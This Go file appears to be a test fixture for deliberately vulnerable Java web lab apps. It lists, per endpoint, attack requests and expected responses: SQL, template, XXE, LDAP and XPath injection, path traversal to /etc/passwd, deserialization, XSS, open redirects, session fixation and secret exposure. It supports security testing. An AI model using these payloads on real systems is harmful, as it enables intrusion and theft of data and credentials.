package web

// flowsJava are the flows of Java on Tomcat: servlets, with PostgreSQL where they have a database.
var flowsJava = []flow{
	{"loans", "java", pairs, "form /login.action userId password", "", "", []step{
		{"/profile.action", "mass", "weak", "anna POST /profile.action reader.phone=1&reader.level=staff ; anna GET /profile.action => Level: staff"},
		{"/loan.action", "bola", "weak", "anna GET /loan.action?loan.id=7002 => Harbour"},
		{"/renew.action", "bola", "weak", "anna POST /renew.action loan.id=7002&loan.until=Sunday ; ben GET /loan.action?loan.id=7002 => Sunday"},
		{"/search.action", "template", "weak", "- GET /search.action?q=$%7B7*191%7D => 1337"},
		{"/book.action", "bola", "", ""},
	}},
	{"policies", "java", pairs, "form /login email password", "", "", []step{
		{"/rest/customers/*/policies/*", "bola", "weak", "anna GET /rest/customers/11/policies/8102 => Harbour"},
		{"/rest/documents/*", "bola", "weak", "anna GET /rest/documents/cG9saWN5OjgxMDI => Harbour"},
		{"/rest/contact", "csrf", "weak", `anna [Content-Type: text/plain] POST /rest/contact {"mail":"q7@lab.example"} ; anna GET /contact => q7@lab`},
		{"/rest/claims", "mass", "weak", `anna POST /rest/claims {"text":"a","amount":5,"approved":true} => "approved":true`},
		{"/rest/tariffs/*", "bola", "", ""},
	}},
	{"hours", "java", pairs, "form /j_security_check j_username j_password", "anna root", "", []step{
		{"/admin/salaries", "bfla", "weak", "anna POST /admin/salaries a=b => 3100"},
		{"/admin/raise", "bfla", "weak", "anna GET /admin/raise?person=q7&percent=1 => q7 is raised"},
		{"/admin/audit", "bfla", "weak", "anna GET /admin;x=1/audit => opened the safe"},
		{"/news", "bfla", "", ""},
	}},
	{"sso", "java", "weak prefix sound", "form /login username password", "", "", []step{
		{"/oauth/authorize", "redirect", "weak prefix", "anna GET /oauth/authorize?response_type=code&client_id=photos&redirect_uri=http://127.0.0.1:{port}@q7.example/ => " +
			`Location: http://127\.0\.0\.1:\d+@q7`},
		{"/oauth/callback", "csrf", "weak", "anna GET /developer ; anna GET /oauth/callback?code={code}&state=q7 => are linked"},
		{"/oauth/token", "expiry", "weak", "anna GET /developer ; anna POST /oauth/token grant_type=authorization_code&client_id=photos&code={code} ; " +
			"anna POST /oauth/token grant_type=authorization_code&client_id=photos&code={code} => access_token"},
	}},
	{"recover", "java", "serial digest reused sound", "form /login login password", "", "", []step{
		{"/reset", "predictable", "serial digest", "- POST /forgot login=ben ; - POST /reset ticket={guess}&password=ben-Pass2 => was changed"},
		{"/reset", "expiry", "reused", "- POST /forgot login=anna ; anna GET /inbox ; - POST /reset ticket={code}&password=anna-Pass1 ; " +
			"- POST /reset ticket={code}&password=anna-Pass1 => was changed"},
	}},
	{"kiosk", "java", pairs, "form /login user password", "", "", []step{
		{"/cart/add", "logic", "weak", "anna POST /cart/add item=2&quantity=30000000 ; anna GET /cart => Total: -"},
		{"/voucher/redeem", "race", "weak", "anna TWICE POST /voucher/redeem voucher=GIFT-anna-1 ; anna GET /wallet => Credit: 40"},
		{"/exam/certificate", "logic", "weak", "ben POST /exam/certificate print=yes => Certificate of"},
	}},
	{"wizard", "java", "java json filtered sound", "form /login.xhtml username password", "", "", []step{
		{"/claim.xhtml", "deserialization", "java", "anna POST /claim.xhtml javax.faces.ViewState={java} => java.io.File cannot be cast"},
		{"/claim.xhtml", "tamper", "java json filtered", "anna GET /claim.xhtml ; anna POST /claim.xhtml javax.faces.ViewState={state:basic=gold0} => Plan: gold0"},
		{"/", "deserialization", "java", "- [Cookie: prefs={java}] GET / => java.io.File cannot be cast"},
	}},
	{"manuals", "java", "weak strip sound", "", "", "", []step{
		{"/download", "path", "weak strip", "- GET /download?file={up}etc/passwd => root:x:0:0"},
		{"/page", "path", "weak", "- GET /page?view=../WEB-INF/web.xml => <web-app"},
		{"/text", "path", "weak", "- GET /text?name=../WEB-INF/web.xml => &lt;web-app"},
		{"/render", "code", "weak", `- GET /render?with=java.util.Date => \d\d:\d\d`},
	}},
	{"exchange", "java", "weak error filter sound", "", "", "", []step{
		{"/ws/stock", "xxe", "weak error", `- POST /ws/stock <!DOCTYPE a [<!ENTITY e SYSTEM "file:///q7/none">]><soap><item>&e;</item></soap> => /q7/none \(No such`},
		{"/label", "xxe", "weak", "- GET /label?text=%3Cx:include+xmlns:x=%22http://www.w3.org/2001/XInclude%22+href=%22file:///etc/passwd%22+parse=%22text%22/%3E => root:x:0:0"},
		{"/import", "ssrf", "*", "- POST /import source=http://127.1:{port}/ => (?s)Imported.*Stock"},
	}},
	{"directory", "java", pairs, "", "", "", []step{
		{"/people", "ldap", "weak", "- GET /people?cn=B*h => Birch"},
		{"/signon", "ldap", "weak", "- POST /signon uid=anna&pin=* => Welcome"},
		{"/card", "xpath", "weak", "- GET /card?id=1+or+1=1 => carl@lab"},
		{"/names", "xpath", "weak", "- GET /names?part=zzz')+or+('1'='1 => Cedar"},
	}},
	{"board", "java", pairs, "form /signin name password", "anna root", "", []step{
		{"/feedback", "xss", "weak", "- POST /feedback subject=a&text=<b>q7 ; root GET /admin/feedback => <b>q7"},
		{"/contact", "xss", "weak", "- [User-Agent: <b>q7] GET /contact ; root GET /admin/visits => <b>q7"},
		{"/view/*", "xss", "weak", "- GET /view/%3Cb%3Eq7 => <b>q7"},
		{"/ask", "log", "weak", "- POST /ask topic=a%0a2026-11-27+INFO+q7 ; root GET /admin/log => (?m)^2026-11-27 INFO q7"},
	}},
	{"stock", "java", "weak quiet sound", "form /login user password", "", "", []step{
		{"/list", "sql", "weak quiet", "- GET /list?by=price&dir=*(CASE+WHEN+id=5+THEN+-1+ELSE+0+END) => <ul><li>sofa"},
		{"/offers", "sql", "weak quiet", "- GET /offers?page=(SELECT+3) => sofa"},
		{"/compare", "sql", "weak quiet", "- GET /compare?id=0)OR(id=5 => sofa"},
		{"/saved**", "sql", "weak quiet", "anna POST /saved term=zzz'OR'1'='1 ; anna GET /saved/{code} => sofa"},
		{"/api/search", "sql", "weak quiet", `- POST /api/search {"filters":[{"field":"id=5 OR kind","op":"=","value":"x"}],"limit":3} => goods":\[\{"name":"sofa`},
		{"/list", "error", "weak", "- GET /list?by=price&dir=' => PSQLException"},
	}},
	{"front", "java", pairs, "form /login customer password", "", "", []step{
		{"/statement", "cache", "weak", "anna GET /statement => ^200 [^\\n]*public"},
		{"/account**", "cache", "weak", "anna GET /account/q7.css ; - GET /account/q7.css => anna has"},
		{"/offers", "cache", "weak", `- [X-Forwarded-Host: q7.example] GET /offers?kind=q7 ; - GET /offers?kind=q7 => q7\.example/offers\.js`},
	}},
	{"tickets", "java", "weak type list sound", "form /login user password", "", "", []step{
		{"/attach", "upload", "weak type list", `anna FILE /attach file {jsp} image/png <jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:text>${7*191}</jsp:text></jsp:root>` +
			" ; anna GET /files/{jsp} => 1337"},
		{"/attach**", "xss", "weak", "anna FILE /attach file q7<b>q7.png image/png q7 ; anna GET /attachments => <b>q7"},
		{"/attachments/*", "bola", "weak", "anna GET /attachments/2 => Harbour"},
	}},
	{"portal", "java", "weak slash shared sound", "form /signin email password", "", "", []step{
		{"/signin", "redirect", "weak slash", "- POST /signin email=anna&password=anna-Pass1&returnUrl=//q7.example/ => Location: //q7"},
		{"/**", "session", "weak", "- GET / => ;jsessionid="},
		{"/**", "fixation", "weak", "-1 GET / ; -2 POST /signin;jsessionid={code} email=anna&password=anna-Pass1 ; -1 GET /me => anna, "},
		{"/**", "expiry", "weak", "-1 GET / ; -1 POST /signin;jsessionid={code} email=anna&password=anna-Pass1 ; -1 GET /logout;jsessionid={code} ; " +
			"-2 GET /me;jsessionid={code} => anna, "},
		{"/register", "hidden", "weak", "- POST /register role=admin&email=q7a&password=q7-Pass => role is admin"},
		{"/me/mail", "csrf", "weak shared", "ben GET /me ; anna POST /me/mail token={code}&mail=q7@lab.example ; anna GET /me => q7@lab"},
	}},
	{"console", "java", pairs, "form /login username password", "", "", []step{
		{"/actuator/env", "exposure", "weak", "- GET /actuator/env => datasource.password"},
		{"/actuator/heapdump", "exposure", "weak", "- GET /actuator/heapdump => JAVA PROFILE"},
		{"/actuator/logfile", "exposure", "weak", "- GET /actuator/logfile => TomcatWebServer"},
	}},
}
